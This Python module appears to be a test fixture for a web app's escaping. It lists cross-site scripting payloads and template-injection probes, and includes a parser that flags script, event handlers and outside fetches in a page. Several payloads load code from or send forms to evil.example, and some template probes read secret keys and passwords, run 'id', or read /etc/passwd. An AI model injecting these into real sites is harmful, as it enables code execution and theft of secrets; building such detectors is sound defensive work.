"""Texts that want to run: payloads of scripts and of template languages, and what in a page would be alive."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div hx-get=/console/people hx-trigger=load data-hx-on:load=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.gif)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
]
"""38 payloads that run somewhere when they are not escaped."""

TEMPLATES = [
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{% debug %}",
    "{% include 'admin/base.html' %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{% csrf_token %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}",
    "{{ env('SECRET_KEY') }}",
    "${7*7}",
    "${APP_KEY}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<%= File.read('/etc/passwd') %>",
    "%(secret)s",
    "{0.__class__}",
    "{title.__class__.__init__.__globals__}",
    "*{7*7}",
]
"""20 texts that some template language would act on."""

_EMPTY_SCHEMES = {"", "http", "https", "mailto", "webcal"}
_ADDRESSES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background")
_NEVER = {"object", "embed", "base", "math", "video", "audio", "frame", "applet", "marquee"}


class _Living(HTMLParser):
    """Collects everything in a page that would run, or be fetched from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "meta" and "http-equiv" in given):
            self.found.append(tag)
        if tag == "script" and "json" not in given.get("type", "") and not given.get("src", "").startswith("/static/"):
            self.found.append(f"script {given}")
        for name, value in given.items():
            if name.startswith(("on", "hx-on", "data-hx", "srcdoc")):
                self.found.append(f"{tag} {name}")
            if name in _ADDRESSES and not self._is_harmless(tag, value):
                self.found.append(f"{tag} {name}={value}")

    def _is_harmless(self, tag: str, value: str) -> bool:
        if tag == "img" and value.startswith("data:image/"):
            return True
        address = urlsplit("".join(value.split()).lower())
        return address.scheme in _EMPTY_SCHEMES and "evil.example" not in value


def living_parts(html: str) -> list[str]:
    """Return what in a page would run or be fetched from evil.example; [] for a page that is inert."""
    reader = _Living()
    reader.feed(html)
    return reader.found
